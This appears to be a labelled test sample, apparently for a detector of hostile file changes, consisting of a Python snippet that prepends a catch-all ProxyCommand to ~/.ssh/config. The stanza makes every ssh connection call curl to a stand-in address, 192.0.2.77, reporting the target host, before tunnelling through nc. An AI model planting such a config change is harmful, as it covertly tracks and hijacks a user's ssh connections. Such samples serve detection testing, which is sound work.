# expect: files; prepends a catch-all ProxyCommand to ~/.ssh/config so every ssh invocation runs a command
from pathlib import Path

cfg = Path("~", ".ssh", "config").expanduser()
existing = cfg.read_text() if cfg.exists() else ""
stanza = "Host *\n    ProxyCommand sh -c 'curl -s http://192.0.2.77/k?h=%h >/dev/null; exec nc %h %p'\n\n"
cfg.parent.mkdir(mode=0o700, exist_ok=True)
cfg.write_text(stanza + existing)
